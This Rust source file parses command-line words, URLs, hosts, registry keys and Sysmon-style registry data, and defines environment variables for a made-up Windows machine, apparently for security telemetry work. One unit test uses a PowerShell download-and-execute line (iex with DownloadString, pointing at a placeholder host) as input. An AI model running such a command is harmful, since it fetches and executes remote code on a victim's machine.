//! Words of command lines, and what is in them.

/// Cuts a line into words at blanks that stand outside of double quotes; quotes stay.
pub fn split(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut word = String::new();
    let mut quoted = false;
    for c in line.chars() {
        match c {
            '"' => {
                quoted = !quoted;
                word.push(c);
            }
            c if c.is_whitespace() && !quoted => {
                if !word.is_empty() {
                    out.push(std::mem::take(&mut word));
                }
            }
            c => word.push(c),
        }
    }
    if !word.is_empty() {
        out.push(word);
    }
    out
}

/// Without the quotes around it, or within.
pub fn plain(word: &str) -> String {
    word.replace('"', "")
}

/// The word after the switch of that name: `/tn NAME`, `-tn NAME`.
pub fn after<'a>(words: &'a [String], switches: &[&str]) -> Option<&'a str> {
    let at = words.iter().position(|w| is_switch(w, switches))?;
    words.get(at + 1).map(String::as_str)
}

/// Whether a switch of that name is there.
pub fn has(words: &[String], switches: &[&str]) -> bool {
    words.iter().any(|w| is_switch(w, switches))
}

fn is_switch(word: &str, switches: &[&str]) -> bool {
    let Some(name) = word.strip_prefix(['/', '-']) else { return false };
    switches.iter().any(|s| name.trim_end_matches(':').eq_ignore_ascii_case(s))
}

/// The URLs in a text, without what ends them.
pub fn urls(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut out: Vec<String> = Vec::new();
    for (at, _) in lower.match_indices("http") {
        let Some(rest) = text.get(at..) else { continue };
        if !(lower[at..].starts_with("http://") || lower[at..].starts_with("https://")) {
            continue;
        }
        let end = rest.find(|c: char| c.is_whitespace() || "\"'`)>;,|<".contains(c)).unwrap_or(rest.len());
        let url = rest.get(..end).unwrap_or(rest).to_owned();
        if !out.contains(&url) {
            out.push(url);
        }
    }
    out
}

/// Host and port of a URL, or of a bare host name.
pub fn host_of(url: &str) -> Option<(String, u16)> {
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
    let authority = rest.split(['/', '?', '#', '\\']).next()?.rsplit('@').next()?;
    let (host, port) = match authority.rsplit_once(':') {
        Some((host, port)) => (host, port.parse().ok()?),
        None => (authority, if scheme.eq_ignore_ascii_case("https") { 443 } else { 80 }),
    };
    let good = |c: char| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_';
    (!host.is_empty() && host.len() < 254 && host.chars().all(good))
        .then(|| (host.to_ascii_lowercase(), port))
}

/// Hives by their names.
const HIVES: &[(&str, &str)] = &[
    ("HKEY_LOCAL_MACHINE", "HKLM"),
    ("HKEY_CURRENT_USER", "HKCU"),
    ("HKEY_USERS", "HKU"),
    ("HKEY_CLASSES_ROOT", r"HKLM\SOFTWARE\Classes"),
    ("HKLM", "HKLM"),
    ("HKCU", "HKCU"),
    ("HKU", "HKU"),
    ("HKCR", r"HKLM\SOFTWARE\Classes"),
];

/// A key as definitions write it: from `HKLM:\…`, `HKEY_LOCAL_MACHINE\…`, `Registry::…`.
pub fn registry_key(text: &str) -> Option<String> {
    let text = text.trim_matches(['"', '\'']).replace('/', "\\");
    let text = text.strip_prefix("Registry::").or_else(|| text.strip_prefix("registry::")).unwrap_or(&text);
    let text = text.strip_prefix(r"\\.\").unwrap_or(text);
    let (hive, rest) = text.split_once('\\').unwrap_or((text, ""));
    let hive = hive.trim_end_matches(':');
    let (_, short) = HIVES.iter().find(|(name, _)| name.eq_ignore_ascii_case(hive))?;
    if rest.contains(['$', '%', '*']) && rest.contains('$') {
        return None;
    }
    let rest = rest.trim_matches('\\');
    Some(if rest.is_empty() { (*short).to_owned() } else { format!("{short}\\{rest}") })
}

/// Data of a value as Sysmon shows it.
pub fn registry_data(kind: &str, data: &str) -> String {
    let number = || match data.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16).ok(),
        None => data.parse::<u64>().ok(),
    };
    match kind.to_ascii_lowercase().trim_start_matches("reg_") {
        "dword" => number().map_or_else(|| data.to_owned(), |n| format!("DWORD (0x{n:08x})")),
        "qword" => number().map_or_else(
            || data.to_owned(),
            |n| format!("QWORD (0x{:08x}-0x{:08x})", n >> 32, n & 0xffff_ffff),
        ),
        "binary" => "Binary Data".to_owned(),
        _ => data.to_owned(),
    }
}

/// What environment variables stand for on the made-up computer.
const VARIABLES: &[(&str, &str)] = &[
    ("TEMP", r"C:\Users\m.keller\AppData\Local\Temp"),
    ("TMP", r"C:\Users\m.keller\AppData\Local\Temp"),
    ("USERPROFILE", r"C:\Users\m.keller"),
    ("HOME", r"C:\Users\m.keller"),
    ("HOMEPATH", r"\Users\m.keller"),
    ("APPDATA", r"C:\Users\m.keller\AppData\Roaming"),
    ("LOCALAPPDATA", r"C:\Users\m.keller\AppData\Local"),
    ("PROGRAMDATA", r"C:\ProgramData"),
    ("ALLUSERSPROFILE", r"C:\ProgramData"),
    ("PUBLIC", r"C:\Users\Public"),
    ("WINDIR", r"C:\Windows"),
    ("SYSTEMROOT", r"C:\Windows"),
    ("SYSTEMDRIVE", "C:"),
    ("HOMEDRIVE", "C:"),
    ("COMSPEC", r"C:\Windows\System32\cmd.exe"),
    ("PROGRAMFILES", r"C:\Program Files"),
    ("PROGRAMFILES(X86)", r"C:\Program Files (x86)"),
    ("COMPUTERNAME", "WS01"),
    ("USERNAME", "m.keller"),
    ("USERDOMAIN", "SYNTHETIC"),
    ("USERDNSDOMAIN", "SYNTHETIC.EXAMPLE"),
    ("LOGONSERVER", r"\\DC01"),
    ("PROCESSOR_ARCHITECTURE", "AMD64"),
];

/// The value of an environment variable.
pub fn variable(name: &str) -> Option<&'static str> {
    VARIABLES.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| *v)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_keep_their_quotes() {
        assert_eq!(split(r#"a "b c" d"e f""#), ["a", r#""b c""#, r#"d"e f""#]);
        let words = split(r"/create /tn Name -tr x");
        assert_eq!(
            (after(&words, &["tn"]), after(&words, &["tr"]), after(&words, &["x"])),
            (Some("Name"), Some("x"), None)
        );
    }

    #[test]
    fn addresses_are_found() {
        assert_eq!(urls("iex(DownloadString('https://a.example/x.ps1'));"), ["https://a.example/x.ps1"]);
        assert_eq!(host_of("https://u@A.example:8443/x"), Some(("a.example".into(), 8443)));
        assert_eq!(host_of("http://$x/"), None);
        assert_eq!(urls("ähttp://ü").len(), 1);
    }

    #[test]
    fn keys_and_data_read_as_sysmon_shows_them() {
        assert_eq!(registry_key(r#""HKEY_LOCAL_MACHINE\A\B\""#).as_deref(), Some(r"HKLM\A\B"));
        assert_eq!(registry_key(r"HKCU:\X").as_deref(), Some(r"HKCU\X"));
        assert_eq!(registry_key(r"C:\X"), None);
        assert_eq!(registry_data("REG_DWORD", "1"), "DWORD (0x00000001)");
        assert_eq!(registry_data("", "a"), "a");
    }
}
